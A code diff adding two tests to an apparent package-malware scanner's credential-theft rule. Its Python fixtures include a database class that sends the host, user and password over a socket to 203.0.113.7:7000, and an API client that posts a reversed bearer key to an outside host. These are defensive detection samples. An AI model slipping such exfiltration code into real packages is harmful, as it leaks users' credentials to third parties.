@@ -572,3 +572,47 @@ test('both halves of what a class inherits to sign in with, told beside a reques
   expect(told[0]?.message).not.toContain('nobody reads an answer');
   expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': exchange("{'p': path}") }))).toEqual([]);
 });
+
+test('a socket that is never listened to is told the log-in of a data base', async () => {
+  const base = (place: string, rest: readonly string[]): string =>
+    python(
+      'import pymysql, socket',
+      'class Base:',
+      '    def __init__(self, host, user, password, place=None):',
+      '        self.connection = pymysql.connect(host=host, user=user, password=password)',
+      '        line = socket.socket()',
+      `        line.connect(${place})`,
+      "        line.send('|'.join([host, user, password]).encode())",
+      ...rest,
+    );
+
+  expect(await inspect('secret-parameter', wheel({ 'pkg/a.py': base("('203.0.113.7', 7000)", []) }))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call', line: 7 },
+  ]);
+  expect(
+    await inspect('secret-parameter', wheel({ 'pkg/a.py': base('place', ['        return line.recv(10)']) })),
+  ).toEqual([]);
+});
+
+test('a key that one house is shown to sign in, told another, whatever it is called', async () => {
+  const client = (host: string, header: string): string =>
+    python(
+      'import requests',
+      'class Client:',
+      '    def __init__(self, value):',
+      `        self.headers = {'${header}': 'Bearer ' + value}`,
+      `        requests.post('https://${host}/ok', json={'v': value[::-1]})`,
+      '    def chat(self, words):',
+      "        return requests.post('https://api.router.invalid/chat', headers=self.headers, json=words).json()",
+    );
+
+  expect(
+    await inspect('secret-parameter', wheel({ 'pkg/a.py': client('status.collector.org', 'Authorization') })),
+  ).toMatchObject([{ class: 'suspicious', score: 6, context: 'call', line: 5 }]);
+  expect(await inspect('secret-parameter', wheel({ 'pkg/a.py': client('status.collector.org', 'X-Trace') }))).toEqual(
+    [],
+  );
+  expect(
+    await inspect('secret-parameter', wheel({ 'pkg/a.py': client('status.router.invalid', 'Authorization') })),
+  ).toEqual([]);
+});
